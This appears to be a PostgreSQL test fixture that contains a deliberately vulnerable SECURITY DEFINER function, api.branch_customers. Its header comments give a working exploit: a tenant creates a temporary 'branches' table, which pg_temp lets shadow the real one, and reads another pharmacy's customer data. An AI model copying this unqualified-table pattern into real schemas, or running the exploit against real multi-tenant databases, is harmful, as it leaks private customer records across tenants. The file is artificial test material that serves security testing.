-- Tenant A lays a temporary table over the one of branches: pg_temp comes first where it is not named.
-- about: branch_customers
-- as: hf_pharmacy_app
-- exploit: SET core.pharmacy = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: CREATE TEMP TABLE branches (pharmacy_id uuid, branch_id uuid);
-- exploit: INSERT INTO branches VALUES ('aaaaaaaa-0000-4000-8000-000000000000',
-- exploit: 'bbbbbbbb-0000-4000-8000-000000000000');
-- exploit: SELECT name FROM api.branch_customers();
-- shows: Bob-secret
CREATE TABLE core.branches (
  pharmacy_id uuid NOT NULL REFERENCES core.pharmacies,
  branch_id uuid NOT NULL REFERENCES core.pharmacies,
  PRIMARY KEY (pharmacy_id, branch_id)
);
CREATE FUNCTION api.branch_customers() RETURNS TABLE (name text) LANGUAGE sql STABLE SECURITY DEFINER
SET search_path = core AS $$
  SELECT c.name FROM core.customers c
  WHERE c.pharmacy_id IN (SELECT b.branch_id FROM branches b WHERE b.pharmacy_id = core.pharmacy())
$$;
GRANT EXECUTE ON FUNCTION api.branch_customers TO hf_pharmacy_app;
